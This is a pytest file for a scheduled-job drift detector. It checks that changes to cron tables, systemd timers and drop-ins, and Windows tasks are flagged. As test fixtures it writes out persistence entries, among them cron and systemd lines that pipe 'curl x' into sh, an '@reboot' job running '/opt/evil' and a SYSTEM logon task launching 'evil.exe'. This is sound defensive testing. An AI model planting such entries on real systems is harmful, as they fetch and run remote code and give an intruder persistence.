"""Drift between a saved baseline and a later state of an image built in the test: a cron line
added, a timer drop-in added, a job removed, a task's action changed; identity and origin."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from schedwarden.collectors.registry import COLLECTORS
from schedwarden.model import Severity
from schedwarden.store import BaselineStore, Document, compare, document
from tests.conftest import MakeRoot, run_collect

CRONTAB = (
    "SHELL=/bin/sh\n"
    "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
    "25 6 * * * root /usr/local/bin/backup --all\n"
)
TIMER = "[Timer]\nOnCalendar=daily\n\n[Install]\nWantedBy=timers.target\n"
SERVICE = "[Service]\nType=oneshot\nExecStart=/usr/lib/apt/apt.systemd.daily update\n"


def _docs(root: Path) -> list[Document]:
    return [document(job) for job in run_collect(root).jobs]


def _image(make_root: MakeRoot) -> Path:
    root = make_root(
        {
            "etc/crontab": CRONTAB,
            "etc/cron.d/certbot": "0 */12 * * * root certbot -q renew\n",
            "usr/lib/systemd/system/apt-daily.timer": TIMER,
            "usr/lib/systemd/system/apt-daily.service": SERVICE,
        }
    )
    wants = root / "etc/systemd/system/timers.target.wants"
    wants.mkdir(parents=True)
    os.symlink("/usr/lib/systemd/system/apt-daily.timer", wants / "apt-daily.timer")
    return root


def test_no_change_no_drift(make_root: MakeRoot) -> None:
    root = _image(make_root)
    drift = compare(_docs(root), _docs(root))
    assert not drift
    assert drift.findings == ()


def test_cron_line_added(make_root: MakeRoot) -> None:
    root = _image(make_root)
    before = _docs(root)
    with open(root / "etc/cron.d/certbot", "a") as table:
        table.write("* * * * * root /tmp/.x/agent\n")
    drift = compare(before, _docs(root))
    assert [d["name"] for d in drift.added] == ["/etc/cron.d/certbot:2"]
    assert drift.removed == () and drift.changed == ()
    [finding] = drift.findings
    assert finding.rule_id == "DRIFT_JOB_ADDED"
    assert finding.severity is Severity.HIGH
    assert "/tmp/.x/agent" in finding.message
    assert finding.job_id == drift.added[0]["job_id"]


def test_line_inserted_above_moves_the_others_without_changing_them(make_root: MakeRoot) -> None:
    root = _image(make_root)
    before = _docs(root)
    (root / "etc/crontab").write_text(
        CRONTAB.replace("SHELL=/bin/sh\n", "SHELL=/bin/sh\n@reboot root /opt/evil\n")
    )
    drift = compare(before, _docs(root))
    assert [d["name"] for d in drift.added] == ["/etc/crontab:2"]
    assert drift.changed == () and drift.removed == ()


def test_cron_command_edited_in_place_is_a_field_change(make_root: MakeRoot) -> None:
    root = _image(make_root)
    before = _docs(root)
    (root / "etc/crontab").write_text(CRONTAB.replace("--all", "--all; curl x|sh"))
    drift = compare(before, _docs(root))
    [change] = drift.changed
    assert {f.field for f in change.fields} == {"command", "definition_hash"}
    assert change.origin == "local"
    command = next(f for f in drift.findings if "command" in f.title)
    assert command.rule_id == "DRIFT_JOB_CHANGED"
    assert command.severity is Severity.HIGH
    assert "before /usr/local/bin/backup --all," in command.message
    assert "after /usr/local/bin/backup --all; curl x|sh" in command.message


def test_timer_drop_in_added_changes_a_package_timer_locally(make_root: MakeRoot) -> None:
    root = _image(make_root)
    before = _docs(root)
    drop_in = root / "etc/systemd/system/apt-daily.service.d/override.conf"
    drop_in.parent.mkdir(parents=True)
    drop_in.write_text("[Service]\nExecStart=\nExecStart=/bin/sh -c 'curl -s x | sh'\n")
    timer_drop = root / "etc/systemd/system/apt-daily.timer.d/10.conf"
    timer_drop.parent.mkdir(parents=True)
    timer_drop.write_text("[Timer]\nOnCalendar=\nOnCalendar=*:0/5\n")
    drift = compare(before, _docs(root))
    [change] = drift.changed
    assert change.after["name"] == "apt-daily.timer"
    fields = {f.field for f in change.fields}
    assert {"command", "schedule"} <= fields
    assert change.origin == "local"  # a local file joined the definition of a stock unit
    assert {f.rule_id for f in drift.findings} == {"DRIFT_JOB_CHANGED"}


def test_package_update_of_a_stock_unit_is_marked_package(make_root: MakeRoot) -> None:
    root = _image(make_root)
    before = _docs(root)
    (root / "usr/lib/systemd/system/apt-daily.timer").write_text(
        TIMER.replace("daily", "*-*-* 6,18:00")
    )
    drift = compare(before, _docs(root))
    [change] = drift.changed
    assert change.origin == "package"
    rules = {f.rule_id for f in drift.findings}
    assert rules == {"DRIFT_PACKAGE_JOB_CHANGED"}
    assert all(f.severity <= Severity.MEDIUM for f in drift.findings)


def test_job_removed_and_new_stock_unit(make_root: MakeRoot) -> None:
    root = _image(make_root)
    before = _docs(root)
    os.remove(root / "etc/cron.d/certbot")
    (root / "usr/lib/systemd/system/fstrim.timer").write_text(TIMER)
    (root / "usr/lib/systemd/system/fstrim.service").write_text(
        "[Service]\nExecStart=/sbin/fstrim -av\n"
    )
    drift = compare(before, _docs(root))
    assert [d["name"] for d in drift.removed] == ["/etc/cron.d/certbot:1"]
    assert [d["name"] for d in drift.added] == ["fstrim.timer"]
    rules = {f.rule_id: f.severity for f in drift.findings}
    assert rules == {
        "DRIFT_JOB_REMOVED": Severity.MEDIUM,
        "DRIFT_PACKAGE_JOB_ADDED": Severity.MEDIUM,
    }


def test_mode_owner_and_effective_changes(make_root: MakeRoot) -> None:
    root = _image(make_root)
    before = _docs(root)
    os.chmod(root / "etc/cron.d/certbot", 0o666)
    drift = compare(before, _docs(root))
    [change] = drift.changed
    assert {f.field for f in change.fields} >= {"mode"}
    mode = next(f for f in change.fields if f.field == "mode")
    assert (mode.before, mode.after) == ("0644", "0666")


def test_the_diff_document_has_the_contract_keys(make_root: MakeRoot) -> None:
    root = _image(make_root)
    before = _docs(root)
    (root / "etc/cron.d/certbot").write_text("0 3 * * * root certbot -q renew\n")
    document_ = compare(before, _docs(root)).document()
    assert list(document_) == ["schema", "added", "removed", "changed", "findings"]
    assert document_["schema"] == "schedwarden.diff/1"
    [change] = document_["changed"]
    assert set(change) == {"before", "after", "fields", "origin"}
    assert change["fields"][0] == {
        "field": "schedule",
        "before": change["before"]["schedule"],
        "after": change["after"]["schedule"],
    }
    assert document_["findings"][0]["job_id"] == change["after"]["job_id"]


TASK_XML = """<?xml version="1.0" encoding="UTF-8"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><URI>\\Updater</URI></RegistrationInfo>
  <Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>
  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId></Principal></Principals>
  <Actions Context="Author"><Exec><Command>{command}</Command></Exec></Actions>
</Task>
"""


def test_task_xml_action_changed(make_root: MakeRoot) -> None:
    if not any(c.platform == "windows" for c in COLLECTORS):
        pytest.skip("no Windows task collector is registered")
    root = make_root(
        {"Windows/System32/Tasks/Updater": TASK_XML.format(command="C:\\Program Files\\u.exe")},
        os_release=None,
        accounts=False,
    )
    before = [d for d in _docs(root) if d["mechanism"] == "windows_task"]
    if not before:
        pytest.skip("the Windows task collector did not read the sample task")
    (root / "Windows/System32/Tasks/Updater").write_text(
        TASK_XML.format(command="C:\\Users\\Public\\evil.exe")
    )
    after = [d for d in _docs(root) if d["mechanism"] == "windows_task"]
    drift = compare(before, after)
    [change] = drift.changed
    assert "command" in {f.field for f in change.fields}
    assert any("evil.exe" in f.message for f in drift.findings)


def test_snapshot_round_trip_diffs_like_a_fresh_collection(
    make_root: MakeRoot, tmp_path: Path
) -> None:
    root = _image(make_root)
    key_dir = tmp_path / "db"
    with BaselineStore.create(str(key_dir / "b.db"), b"k") as store:
        store.save(run_collect(root))
        stored = store.load().documents
    assert not compare(stored, _docs(root))
    assert sorted(d["job_id"] for d in stored) == sorted(d["job_id"] for d in _docs(root))
